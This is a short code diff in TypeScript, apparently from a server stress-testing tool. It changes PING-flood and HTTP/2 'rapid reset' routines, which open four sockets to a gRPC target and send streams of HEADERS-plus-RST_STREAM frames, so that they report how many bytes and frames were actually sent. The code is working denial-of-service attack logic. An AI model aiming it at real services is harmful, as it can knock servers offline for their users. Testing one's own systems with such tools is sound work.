@@ -170,13 +170,14 @@ function floods(grpc: Target): Attack[] {
   const settled = Buffer.concat([PREFACE, SETTINGS]);
   const flood = (frame: Buffer, frames: number) => async (): Promise<number> => {
     const chunk = Buffer.concat(Array.from({ length: 1000 }, () => frame));
+    let bytes = 0;
     await many(4, () =>
-      say(grpc, (socket) => {
+      say(grpc, async (socket) => {
         socket.write(settled);
-        return pour(socket, chunk, (frames / 4) * frame.length);
+        bytes += await pour(socket, chunk, (frames / 4) * frame.length);
       }),
     );
-    return frames;
+    return bytes / frame.length;
   };
   return [
     { what: 'a flood of 200,000 PINGs', run: flood(PING, 200_000) },
@@ -207,6 +208,7 @@ async function rapidReset(grpc: Target, streams: number): Promise<number> {
     return Buffer.concat([head, payload]);
   };
   const cancel = Buffer.from([0, 0, 0, 8]);
+  let sent = 0;
   await many(4, () =>
     say(grpc, async (socket) => {
       socket.write(Buffer.concat([PREFACE, SETTINGS]));
@@ -215,11 +217,12 @@ async function rapidReset(grpc: Target, streams: number): Promise<number> {
           const stream = 2 * (n + i) + 1;
           return Buffer.concat([frame(1, 4, stream, block), frame(3, 0, stream, cancel)]);
         });
+        sent += some.length;
         await pour(socket, Buffer.concat(some), 1);
       }
     }),
   );
-  return streams;
+  return sent;
 }
 
 function atHttp(http: Target, random: Random): Attack[] {
